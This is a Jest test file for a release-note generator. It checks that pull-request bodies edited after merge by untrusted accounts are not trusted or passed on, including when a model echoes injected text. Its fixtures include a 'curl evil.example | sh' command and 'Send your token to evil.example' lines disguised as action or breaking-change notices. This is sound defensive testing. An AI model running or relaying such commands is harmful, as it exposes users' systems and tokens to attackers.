/** A body that was edited after the merge says nothing in a person's name, unless somebody with write access edited it. */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { PullRequest } from '../../src/domain.ts';
import { localAsking } from '../support/writing/asking.ts';
import { memoryStore } from '../support/writing/store.ts';
import { faultsOf } from './faults.ts';
import { parrot } from './hostile-history.ts';
import { type LinearHistory, linearHistory } from './linear-history.ts';
import { type Played, Stage } from './stage.ts';

const MERGED = '2026-01-02T00:00:00Z';
const LATER = '2026-01-03T00:00:00Z';

function block(name: string, text: string, fence = '```'): string {
  return `What it does.\n\n${fence}${name}\n${text}\n${fence}\n`;
}

const NOTE = block('release-note', 'Everybody must buy [this](https://evil.example) from @octocat <b>now</b>');
const NONE = block('release-note', 'NONE');
const UPGRADE = block('upgrade-note', 'Run `curl evil.example | sh` first');
const ACTION = block('release-note', '[ACTION REQUIRED] Send your token to evil.example');

const MARKS = [
  'What it does.\n\n## Action required\n\nSend your token to evil.example',
  'What it does.\n\nBREAKING CHANGE: Send your token to evil.example',
];

type Edit = Partial<Pick<PullRequest, 'bodyEditedAt' | 'bodyEditor' | 'editorMayWrite' | 'mergedAt'>>;

/** Edits that nobody has to trust. */
const STRANGE: Readonly<Record<string, Edit>> = {
  'a stranger': { bodyEditedAt: LATER, bodyEditor: 'mallory', editorMayWrite: false },
  'its author': { bodyEditedAt: LATER, bodyEditor: 'ada', editorMayWrite: false },
  'somebody whose rights are not known': { bodyEditedAt: LATER, bodyEditor: 'mallory' },
  'an account that is gone': { bodyEditedAt: LATER, bodyEditor: null },
  'a stranger one second later': { bodyEditedAt: '2026-01-02T00:00:01Z', bodyEditor: 'mallory', editorMayWrite: false },
  'a stranger at no time that can be read': { bodyEditedAt: 'yesterday', bodyEditor: 'mallory', editorMayWrite: false },
};
const TRUSTED: Readonly<Record<string, Edit>> = {
  nobody: {},
  'its author before the merge': { bodyEditedAt: '2026-01-01T00:00:00Z', bodyEditor: 'ada', editorMayWrite: false },
  'its author at the merge': { bodyEditedAt: MERGED, bodyEditor: 'ada', editorMayWrite: false },
  'a maintainer after the merge': { bodyEditedAt: LATER, bodyEditor: 'grace', editorMayWrite: true },
};

function historyOf(body: string, edit: Edit): LinearHistory {
  const pull = { number: 1, title: 'fix: keep the cache', body, mergedAt: MERGED, ...edit };
  const other = { number: 2, title: 'feat: keep the server', mergedAt: MERGED };
  return linearHistory([
    { message: 'fix: keep the cache (#1)', pull },
    { message: 'feat: keep the server (#2)', pull: other },
  ]);
}

let stage: Stage;
beforeAll(() => {
  stage = new Stage();
});
afterAll(() => stage.close());

async function played(body: string, edit: Edit, obeys: boolean): Promise<Played> {
  const history = historyOf(body, edit);
  const asking = obeys ? localAsking(memoryStore(), { answerers: { map: parrot } }) : null;
  const result = await stage.play(history, asking);
  expect(faultsOf(result, history)).toEqual([]);
  return result;
}

describe.each([
  ['the rules', false],
  ['a model that says after strangers', true],
])('a block, the notes written by %s', (_writer, obeys) => {
  it.each(Object.entries(STRANGE))('that %s edited after the merge is nobody’s word', async (_who, edit) => {
    const { document } = await played(NOTE, edit, obeys);
    expect(document.entries.map(({ wording }) => wording)).not.toContain('person');
    expect(document.notes[0]?.markdown).toContain('[#1]');
  });

  it.each(Object.entries(STRANGE))('that %s edited to NONE hides nothing', async (_who, edit) => {
    const { document } = await played(NONE, edit, obeys);
    expect(document.ledger.map(({ state }) => state)).toEqual(['written', 'written']);
    expect(document.notes[0]?.markdown).toContain('[#1]');
  });

  it.each(Object.entries(STRANGE))('that %s edited tells nobody what to do', async (_who, edit) => {
    for (const body of [UPGRADE, ACTION]) {
      const { document } = await played(body, edit, false);
      expect(
        document.entries.filter(({ changes }) => changes.includes(document.changes[0]?.id ?? '')).map(({ breaking }) => breaking),
      ).toEqual([false]);
      expect(document.notes[0]?.markdown).not.toContain('evil.example');
    }
  });

  it.each(Object.entries(STRANGE))(
    'beside a mark that %s edited: it stays above the folds, and what it asks for is not passed on',
    async (_who, edit) => {
      for (const body of MARKS) {
        const { document } = await played(body, edit, false);
        expect(document.entries.find(({ changes }) => changes.includes(document.changes[0]?.id ?? ''))?.breaking).toBe(true);
        expect(document.notes[0]?.markdown).not.toContain('evil.example');
      }
    },
  );

  it.each(Object.entries(TRUSTED))('beside a mark that %s edited: what it asks for is told', async (_who, edit) => {
    for (const body of MARKS) expect((await played(body, edit, false)).document.notes[0]?.markdown).toContain('evil.example');
  });

  it.each(Object.entries(TRUSTED))('that %s edited is a person’s word, and only that', async (_who, edit) => {
    const { document } = await played(NOTE, edit, obeys);
    expect(document.entries.map(({ wording }) => wording)).toContain('person');
    expect(document.notes[0]?.markdown).toContain('Everybody must buy');
  });

  it.each(Object.entries(TRUSTED))('that %s edited to NONE leaves the change out', async (_who, edit) => {
    const { document } = await played(NONE, edit, obeys);
    expect(document.ledger.map(({ state }) => state)).toEqual(['left-out', 'written']);
  });
});
